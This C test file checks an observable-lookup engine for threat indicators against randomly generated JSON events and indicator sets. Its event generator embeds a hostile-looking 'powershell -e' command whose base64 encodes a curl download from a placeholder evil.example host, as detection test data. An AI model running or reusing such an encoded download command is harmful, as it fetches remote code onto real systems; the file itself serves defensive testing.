/* The lookup of observables against the truth: what it finds in blocks of random events is what
 * observable_scan_event says of every single one, each event read from its bytes. */
#include "query/eval/observable_lookup.h"
#include "query/ioc/indicator_set.h"
#include "schema/crypto/base64.h"
#include "schema/event/term.h"
#include "tests/support/test.h"
#include "tests/support/truth.h"

#include <stdlib.h>

static void add_uuid(struct dice *dice, uint32_t of, bool upper, struct buf *out)
{
    uint32_t n = dice_roll(dice, of);
    if (upper) {
        buf_printf(out, "%08X-ABCD-4A5D-93DF-00%010X", n * 2654435761u, n);
    } else {
        buf_printf(out, "%08x-abcd-4a5d-93df-00%010x", n * 2654435761u, n);
    }
}

/* What an indicator can name, spelled in some way; few, so that they meet. */
static void add_name(struct dice *dice, struct buf *out)
{
    uint32_t n = dice_roll(dice, 60);
    switch (dice_roll(dice, 9)) {
    case 0:
        buf_printf(out, "10.0.%u.%u", n % 4, n);
        break;
    case 1:
        buf_printf(out, "10.0.%u.%u:%u", n % 4, n, dice_roll(dice, 70000));
        break;
    case 2:
        buf_printf(out, "[2001:db8::%x]:22", n);
        break;
    case 3:
        buf_printf(out, "::ffff:10.0.0.%u", n);
        break;
    case 4:
        buf_printf(out, "http:\\/\\/h%u.evil.example\\/a?b=c", n);
        break;
    case 5:
        buf_printf(out, "/opt/d%u/tool%u.sh", n % 5, n);
        break;
    case 6:
        buf_printf(out, "C:\\\\Temp\\\\Tool%u.EXE", n);
        break;
    case 7:
        buf_printf(out, "m%u@mail%u.example.com \\u00e4 %032x", n, n % 3, n);
        break;
    default:
        add_uuid(dice, 40, dice_one_in(dice, 9), out);
        break;
    }
}

static void add_hidden(struct dice *dice, struct buf *out)
{
    char text[64];
    struct buf digits = BUF_INIT;
    (void)snprintf(text, sizeof text, "curl http://b%u.evil.example/x", dice_roll(dice, 60));
    base64_encode(&digits, span_str(text));
    buf_printf(out, "powershell -e %.*s", (int)digits.size, digits.data);
    buf_fini(&digits);
}

/* Mostly of one form, so that the column has it; now and then spelled otherwise. */
static void add_formed(struct dice *dice, uint32_t form, uint32_t of, struct buf *out)
{
    if (dice_one_in(dice, 60)) {
        buf_add_char(out, '"');
        add_name(dice, out);
        buf_add_char(out, '"');
    } else if (form == 0) {
        buf_printf(out, "\"10.%u.%u.%u:%u\"", dice_roll(dice, 2), dice_roll(dice, 4),
                   dice_roll(dice, 250), dice_roll(dice, 60000));
    } else if (form == 1) {
        buf_printf(out, "\"10.%u.%u.%u\"", dice_roll(dice, 2), dice_roll(dice, 4),
                   dice_roll(dice, 250));
    } else if (form == 2) {
        buf_add_char(out, '"');
        add_uuid(dice, of, false, out);
        buf_add_char(out, '"');
    } else {
        const char *quote = form == 3 ? "" : "\"";
        buf_printf(out, "%s%u%s", quote, dice_roll(dice, of), quote);
    }
}

/* Fields that name something and fields that do not, each mostly of a form; in few shapes, or no
 * line would be cut. */
static void add_fields(struct dice *dice, struct buf *out)
{
    static const char *const names[] = {"addr.remote", "client",        "sid",  "pid",
                                        "port",        "user",          "name", "session_id",
                                        "program",     "serial_number", "argv", "user_agent"};
    uint32_t without = dice_roll(dice, 3);
    for (uint32_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        if (without == 0 || i % 3 != without) {
            buf_printf(out, ",\"%s\":", names[i]);
            add_formed(dice, i == 10 ? 2 : i % 5,
                       i < 5               ? 2000
                       : i == 7 || i == 10 ? 12
                                           : 30 * i,
                       out);
        }
    }
}

static void make_event(struct dice *dice, int64_t day_us, struct buf *out)
{
    char time[CLOCK_TEXT_BYTES];
    int64_t time_us = TRUTH_DAY_US + (int64_t)dice_roll(dice, 86400) * 1000000;
    (void)day_us; /* all of one day, so that blocks are large enough for forms with odd values */
    buf_printf(out, "{\"time\":\"%s\",\"uid\":\"%08x\"", clock_format(time_us, time),
               dice_roll(dice, 1u << 30));
    buf_printf(out, ",\"host\":\"h%u.evil.example\"", dice_roll(dice, 12));
    add_fields(dice, out);
    if (dice_one_in(dice, 2)) {
        static const char *const names[] = {"command", "path", "data", "login", "headers", "uid"};
        static const struct {
            const char *before;
            const char *behind;
        } forms[] = {{"\"", "\""},
                     {"\"x ", " y\""},
                     {"[\"", "\",3,null]"},
                     {"{\"a\":{\"b\":[\"", "\"]}}"},
                     {"{\"User-Agent\":\"", "\"}"}};
        uint32_t form = dice_roll(dice, sizeof forms / sizeof forms[0]);
        struct buf text = BUF_INIT;
        (dice_one_in(dice, 4) ? add_hidden : add_name)(dice, &text);
        buf_printf(out, ",\"%s\":%s%.*s%s", DICE_PICK(dice, names), forms[form].before,
                   (int)text.size, text.data, forms[form].behind);
        buf_fini(&text);
    }
    if (dice_one_in(dice, 25)) { /* a line that is not cut */
        buf_printf(out, ",\"deep\":{\"a\":{\"b\":{\"c\":{\"d\":{\"e\":{\"f\":{\"g\":\"");
        add_name(dice, out);
        buf_add_str(out, "\"}}}}}}}");
        buf_printf(out, ",\"%09000d\":\"", 7);
        add_name(dice, out);
        buf_add_char(out, '"');
    }
    buf_add_char(out, '}');
}

static void add_indicator(struct indicator_set *set, enum observable_kind kind, const char *text)
{
    struct err err;
    bool is_new;
    struct indicator indicator = {.kind = kind, .text = span_str(text), .normal = span_str(text)};
    EXPECT_OK(indicator_set_add(set, &indicator, &is_new, &err), err);
}

static void add_range(struct indicator_set *set, const char *network, unsigned bits)
{
    struct err err;
    bool is_new;
    unsigned char address[OBSERVABLE_KEY_ADDRESS_BYTES];
    EXPECT(term_address_bytes(span_str(network), address));
    struct indicator indicator = {.kind = OBSERVABLE_IP,
                                  .is_range = true,
                                  .bits = (unsigned char)bits,
                                  .text = span_str(network),
                                  .normal = span_of(address, sizeof address)};
    EXPECT_OK(indicator_set_add(set, &indicator, &is_new, &err), err);
}

/* Of one kind or of several. */
static struct indicator_set *make_set(struct dice *dice)
{
    static const struct {
        enum observable_kind kind;
        uint32_t of;
        const char *before;
        const char *behind;
    } forms[] = {{OBSERVABLE_IP, 60, "10.0.0.", ""},
                 {OBSERVABLE_DOMAIN, 60, "h", ".evil.example"},
                 {OBSERVABLE_URL, 60, "http://b", ".evil.example/x"},
                 {OBSERVABLE_FILE, 60, "tool", ".sh"},
                 {OBSERVABLE_FILE, 60, "/opt/d1/tool", ".sh"},
                 {OBSERVABLE_FILE, 240, "", ""},
                 {OBSERVABLE_EMAIL, 60, "m", "@mail1.example.com"},
                 {OBSERVABLE_SERIAL, 270, "", ""}};
    struct indicator_set *set = indicator_set_new();
    uint32_t kinds = 1 + dice_roll(dice, 255);
    CHECK(set);
    for (uint32_t i = 0, count = 1 + dice_roll(dice, 24); i < count; i++) {
        char text[96];
        if (kinds >> i % 8 & 1) {
            (void)snprintf(text, sizeof text, "%s%u%s", forms[i % 8].before,
                           dice_roll(dice, forms[i % 8].of), forms[i % 8].behind);
            add_indicator(set, forms[i % 8].kind, text);
        }
        if (kinds & 2) {
            struct buf uuid = BUF_INIT;
            add_uuid(dice, dice_one_in(dice, 2) ? 12 : 2000, false, &uuid);
            buf_add_char(&uuid, '\0');
            add_indicator(set, dice_one_in(dice, 3) ? OBSERVABLE_FILE : OBSERVABLE_SESSION,
                          uuid.data);
            buf_fini(&uuid);
        }
    }
    if (kinds & 1 && dice_one_in(dice, 2)) {
        add_range(set, "10.1.2.0", 96 + 24 + dice_roll(dice, 6));
        add_range(set, "0.0.0.0", 96 + 8);
        add_range(set, "2001:0db8:0000:0000:0000:0000:0000:0010", 124);
    }
    return set;
}

struct truth_match {
    const struct observable_lookup_ops *ops;
    bool found;
};

static void match_one(void *context, const struct observable *observable)
{
    struct truth_match *match = context;
    match->found = match->found || match->ops->matches(match->ops->context, observable);
}

static size_t check_block(struct observable_lookup *lookup, struct block_view *view)
{
    struct err err;
    struct bitmap map;
    struct observable_scanner scanner = OBSERVABLE_SCANNER_INIT;
    size_t hits = 0;
    EXPECT_OK(observable_lookup_block(lookup, view, &map, &err), err);
    for (size_t slot = 0; slot < view->info->n_events; slot++) {
        struct event event;
        struct truth_match match = {&lookup->ops, false};
        EXPECT_OK(block_view_event(view, slot, &event, &err), err);
        EXPECT(observable_scan_event(&scanner, &event, match_one, &match));
        if (match.found != bitmap_get(&map, slot)) {
            fprintf(stderr, "%s: %.*s\n", match.found ? "missed" : "found, but no match",
                    SPAN_FMT(event.raw));
            test_failures++;
        }
        hits += match.found;
    }
    observable_scanner_fini(&scanner);
    return hits;
}

static size_t check_segment(const struct indicator_set *set)
{
    struct observable_lookup lookup = {.ops = indicator_set_lookup_ops(set)};
    struct segment *segment = NULL;
    struct err err;
    size_t hits = 0;
    size_t n_blocks;
    EXPECT_OK(day_iterator_segment_open(truth.dir, false, TRUTH_DAY_US, &segment, &err), err);
    CHECK(segment);
    const struct block_info *blocks = segment_blocks(segment, &n_blocks);
    struct block_view *view = block_view_new(segment);
    for (size_t i = 0; i < n_blocks && test_failures < 20; i++) {
        block_view_move(view, &blocks[i]);
        hits += check_block(&lookup, view);
    }
    observable_lookup_fini(&lookup);
    block_view_free(view);
    segment_close(segment);
    return hits;
}

TEST(what_has_an_indicator_is_found)
{
    struct dice dice = {.state = test_seed(3)};
    size_t hits = 0;
    size_t without = 0;
    int rounds = test_rounds(60);
    for (int i = 0; i < rounds && test_failures < 20; i++) {
        struct indicator_set *set = make_set(&dice);
        size_t found = check_segment(set);
        hits += found;
        without += found == 0;
        indicator_set_free(set);
    }
    EXPECT(hits > (size_t)rounds * 10);
    EXPECT(without < (size_t)rounds / 2);
}

static void count_one(void *context, const struct observable *observable)
{
    (void)observable;
    ++*(size_t *)context;
}

/* What is told by its numbers has nothing else in it: no list speaks of it. */
TEST(forms_hide_nothing)
{
    struct dice dice = {.state = test_seed(5)};
    struct observable_scanner scanner = OBSERVABLE_SCANNER_INIT;
    const struct observable_field shapes = {.kind = OBSERVABLE_FIELD_SHAPES};
    for (int i = 0; i < test_rounds(200000); i++) {
        enum value_form_kind kind = (enum value_form_kind)(1 + (unsigned)i % 6);
        struct value_form form = {kind, (uint8_t)(kind == VALUE_FORM_TIME ? i % 11 : 0)};
        struct value_form_bits bits = {
            (uint64_t)dice_roll(&dice, 1u << 31) << 31 | dice_roll(&dice, 1u << 31),
            (uint64_t)dice_roll(&dice, 1u << 31) << 31 | dice_roll(&dice, 1u << 31)};
        char text[VALUE_FORM_SPELLING_MAX];
        bits.number >>= kind == VALUE_FORM_UUID ? 0 : dice_roll(&dice, 60);
        size_t size = value_form_write(form, &bits, text);
        if (!value_form_read(form, span_of(text, size), &bits)) {
            continue;
        }
        bool is_number = kind == VALUE_FORM_INTEGER;
        struct event_field field = {.path = span_str("x"),
                                    .value = is_number ? span_of(text, size)
                                                       : span_of(text + 1, size - 2),
                                    .kind = is_number ? EVENT_NUMBER : EVENT_STRING};
        size_t count = 0;
        EXPECT(observable_scan_value(&scanner, &shapes, &field, count_one, &count));
        if (count != (kind == VALUE_FORM_IPV4 || kind == VALUE_FORM_ENDPOINT)) {
            fprintf(stderr, "%zu in %.*s\n", count, (int)size, text);
            test_failures++;
        }
    }
    observable_scanner_fini(&scanner);
}

TEST(setup)
{
    truth_make_of(make_event, test_seed(20260301));
    EXPECT(truth.count > TRUTH_EVENTS_MAX * 8 / 10);
}

TEST(cleanup)
{
    truth_remove();
}

TEST_MAIN(TEST_ENTRY(setup), TEST_ENTRY(what_has_an_indicator_is_found), TEST_ENTRY(cleanup),
          TEST_ENTRY(forms_hide_nothing))
